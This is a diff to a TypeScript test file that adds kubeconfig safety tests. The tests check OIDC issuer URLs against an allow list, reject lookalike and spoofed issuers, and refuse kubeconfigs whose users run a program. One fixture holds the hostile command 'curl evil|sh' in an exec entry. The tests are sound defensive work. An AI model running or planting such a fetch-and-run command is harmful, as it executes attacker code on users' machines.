@@ -3,10 +3,13 @@ import { parse } from "yaml";
 import type { Cluster } from "../k8s/types.ts";
 import {
   adminKubeconfigFromSecret,
+  allowedKubeconfigIssuers,
   caFromSecret,
+  issuerAllowed,
   kubeconfigServer,
   oidcKubeconfig,
   oidcSettingsOf,
+  unsafeKubeconfigReason,
 } from "./kubeconfig.ts";
 
 const cluster = (variables: { name: string; value: unknown }[]): Cluster => ({
@@ -103,5 +106,43 @@ describe("admin kubeconfig from the Secret", () => {
     expect(adminKubeconfigFromSecret({ value: Buffer.from("hello").toString("base64") })).toBeNull();
     expect(adminKubeconfigFromSecret({})).toBeNull();
     expect(caFromSecret({ "tls.crt": "Q0E=", "tls.key": "S0VZ" })).toBe("Q0E=");
+  });
+});
+
+describe("kubeconfig safety", () => {
+  it("allows kubelogin only towards the platform's issuers, compared exactly", () => {
+    const allowed = allowedKubeconfigIssuers({
+      OIDC_ISSUER: "https://login.example.com/realms/kaas/",
+      KAAS_KUBECONFIG_ISSUERS: " https://sso.example.org , ",
+    });
+    expect(allowed).toEqual(["https://login.example.com/realms/kaas", "https://sso.example.org"]);
+    expect(issuerAllowed("https://login.example.com/realms/kaas", allowed)).toBe(true);
+    expect(issuerAllowed("https://login.example.com/realms/kaas/", allowed)).toBe(true);
+    for (const lookalike of [
+      "https://login.example.com.evil.test/realms/kaas",
+      "https://login.example.com/realms/kaas-evil",
+      "https://login.example.com/realms",
+      "https://logın.example.com/realms/kaas",
+      "https://LOGIN.example.com/realms/kaas",
+      "http://login.example.com/realms/kaas",
+      "https://sso.example.org@evil.test",
+    ]) {
+      expect(issuerAllowed(lookalike, allowed), lookalike).toBe(false);
+    }
+    expect(allowedKubeconfigIssuers({})).toEqual([]);
+  });
+
+  const kubeconfig = (user: Record<string, unknown>) =>
+    JSON.stringify({ kind: "Config", clusters: [], users: [{ name: "admin", user }] });
+
+  it("refuses admin kubeconfigs whose users run a program", () => {
+    expect(
+      unsafeKubeconfigReason(kubeconfig({ "client-certificate-data": "x", "client-key-data": "y" })),
+    ).toBeNull();
+    expect(
+      unsafeKubeconfigReason(kubeconfig({ exec: { command: "sh", args: ["-c", "curl evil|sh"] } })),
+    ).toMatch(/runs a program \(exec\)/);
+    expect(unsafeKubeconfigReason(kubeconfig({ "auth-provider": { name: "gcp" } }))).toMatch(/auth-provider/);
+    expect(unsafeKubeconfigReason("users: [")).toMatch(/cannot be read/);
   });
 });
